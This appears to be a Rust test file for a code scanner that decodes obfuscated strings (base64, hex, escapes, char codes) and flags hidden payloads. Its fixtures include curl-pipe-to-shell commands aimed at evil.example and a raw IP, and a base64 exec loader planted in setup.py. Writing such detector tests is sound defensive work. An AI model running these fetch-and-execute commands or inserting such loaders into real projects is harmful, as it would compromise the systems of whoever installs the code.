use super::codec::{self, Codec, Span};
use super::*;

fn spans(line: &str) -> Vec<(Codec, String)> {
    let mut out = Vec::new();
    codec::find_spans(line, &mut out);
    out.iter()
        .filter_map(|&s| Some((s.codec, codec::decode(line, s)?)))
        .collect()
}

fn b64(text: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes = text.as_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | (b as u32) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
        }
        for _ in chunk.len()..3 {
            out.push('=');
        }
    }
    out
}

fn review(path: &str, text: &str) -> Vec<Finding> {
    let checks = crate::checks::into_set(crate::checks::load_checked(&[]).expect("checks"));
    let mut file = crate::source::whole_file(
        path.to_string(),
        text.to_string(),
        crate::source::AddedLines::All,
    );
    file.role = Role::detect(path, text, text.lines().map(str::len));
    run(&checks, &[file]).findings
}

fn ids(findings: &[Finding]) -> Vec<&str> {
    let mut ids: Vec<&str> = findings.iter().map(|f| f.check.as_str()).collect();
    ids.sort_unstable();
    ids.dedup();
    ids
}

#[test]
fn each_codec_decodes_its_spans() {
    let line = format!("x = \"{}\"", b64("curl http://evil.example/x | sh"));
    assert_eq!(
        spans(&line),
        vec![(Codec::Base64, "curl http://evil.example/x | sh".to_string())]
    );
    assert_eq!(
        spans(r#"s = "\x68\x74\x74\x70\x73\x3a\x2f\x2fa.b""#),
        vec![(Codec::Escapes, "https://a.b".to_string())]
    );
    assert_eq!(
        spans(r#"s = "\u0072\u0065\u0071\u0075\u{69}re""#),
        vec![(Codec::Escapes, "require".to_string())]
    );
    assert_eq!(
        spans(r#"s = "\143\150\151\154\144""#),
        vec![(Codec::Escapes, "child".to_string())]
            .into_iter()
            .filter(|_| false)
            .collect::<Vec<_>>(),
        "five bytes is below the printable minimum"
    );
    assert_eq!(
        spans("bytes.fromhex('6375726c202d73206874747073')"),
        vec![(Codec::Hex, "curl -s https".to_string())]
    );
    assert_eq!(
        spans("u = 'http%3A%2F%2Fevil.example%2Fa%3Fq%3D1'"),
        vec![(Codec::Percent, "http://evil.example/a?q=1".to_string())]
    );
    assert_eq!(
        spans("String.fromCharCode(101, 118, 97, 108, 40, 120, 41)"),
        vec![(Codec::CharCodes, "eval(x)".to_string())]
    );
    // URL-safe base64, unpadded.
    let url_safe = b64("subprocess.Popen(['sh'])?>")
        .replace('+', "-")
        .replace('/', "_");
    assert_eq!(
        spans(&format!("'{}'", url_safe.trim_end_matches('='))).len(),
        1
    );
}

#[test]
fn binary_hashes_and_words_decode_to_nothing() {
    for line in [
        // A sha256, an SRI hash, a UUID, a long identifier, a path, a table of small numbers.
        "h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'",
        "integrity: 'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=='",
        "id = '123e4567-e89b-12d3-a456-426614174000'",
        "name = 'someVeryLongIdentifierName'",
        "p = '/usr/local/lib/python3/site-packages'",
        "t = [0, 1, 2, 3, 4, 5, 6, 7, 8]",
        "img = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='",
    ] {
        assert_eq!(spans(line), vec![], "{line}");
    }
}

#[test]
fn decoding_is_bounded() {
    let huge = "QUFB".repeat(100_000);
    let bytes = codec::base64(huge.as_bytes()).unwrap();
    assert!(bytes.len() <= codec::MAX_DECODED);
    let span = Span {
        start: 0,
        end: huge.len(),
        codec: Codec::Base64,
    };
    assert!(codec::decode(&huge, span).is_some_and(|t| t.len() <= codec::MAX_DECODED));
}

#[test]
fn a_base64_exec_payload_is_reviewed_at_its_location() {
    let payload = b64("import os;os.system('curl -s http://45.9.1.2/x.sh | sh')");
    let text = format!("import base64\nexec(base64.b64decode('{payload}'))\n");
    let found = review("setup.py", &text);
    assert!(!found.is_empty(), "{found:#?}");
    for f in &found {
        assert_eq!(f.line, 2);
        assert!(
            f.message.contains("base64 text decodes to"),
            "{}",
            f.message
        );
    }
    let ids = ids(&found);
    assert!(ids.iter().any(|id| id.starts_with("exec.")), "{ids:?}");
}

#[test]
fn an_encoded_secret_is_masked_and_keeps_its_severity() {
    let token = "ghp_R8m2kXqP4vT9wLzN6bY3cJ7dF1hG5sA0eU2i";
    let text = format!(
        "//registry.npmjs.org/:_auth={}\n",
        b64(&format!("deploy:{token}"))
    );
    let found = review(".npmrc", &text);
    let secret = found
        .iter()
        .find(|f| f.category == Category::Secret)
        .unwrap_or_else(|| panic!("{found:#?}"));
    assert!(!secret.message.contains(token), "{}", secret.message);
    assert!(
        !secret.snippet.contains(&b64(&format!("deploy:{token}"))),
        "{}",
        secret.snippet
    );
    assert!(secret.message.contains("decodes to"));
}

#[test]
fn escaped_dangerous_names_are_obfuscation() {
    let text = "const cp = require(\"\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73\");\n";
    let found = review("index.js", text);
    assert_eq!(ids(&found), vec![ENCODED_NAME], "{found:#?}");
    assert!(found[0].message.contains("`child_process`"));
    // Escapes of ordinary text are not.
    let text = "const s = \"\\u00e9t\\u00e9 \\u00e0 la plage\";\n";
    assert_eq!(review("index.js", text), vec![]);
}

#[test]
fn long_blobs_in_source_are_reported_but_not_in_data_or_tests() {
    let blob = b64(&"console.log('hello world'); ".repeat(60));
    let text = format!("const payload = \"{blob}\";\n");
    assert_eq!(ids(&review("lib/index.js", &text)), vec![BASE64_BLOB]);
    assert_eq!(
        review("data/payload.json", &format!("{{\"p\": \"{blob}\"}}\n")),
        vec![]
    );
    assert_eq!(review("test/index.test.js", &text), vec![]);
}

#[test]
fn benign_encoded_text_is_quiet() {
    let jwt_header = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}");
    let svg = b64("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"/>");
    let text = format!(
        "const h = '{jwt_header}';\nconst v = ['{}', '{}'];\nconst icon = 'data:image/svg+xml;base64,{svg}';\n",
        b64("The quick brown fox jumps over the lazy dog"),
        b64("hello world, this is a test vector"),
    );
    assert_eq!(review("lib/util.js", &text), vec![]);
}

#[test]
fn encoded_bidi_controls_are_no_trojan_source() {
    // A URL test vector with percent-encoded bidirectional overrides (httparse's tests have these).
    let text = "assert_eq!(req.path.unwrap(), \"/%E2%80%AE/foo/%E2%80%AD/bar\");\n";
    assert_eq!(review("tests/uri.rs", text), vec![]);
}
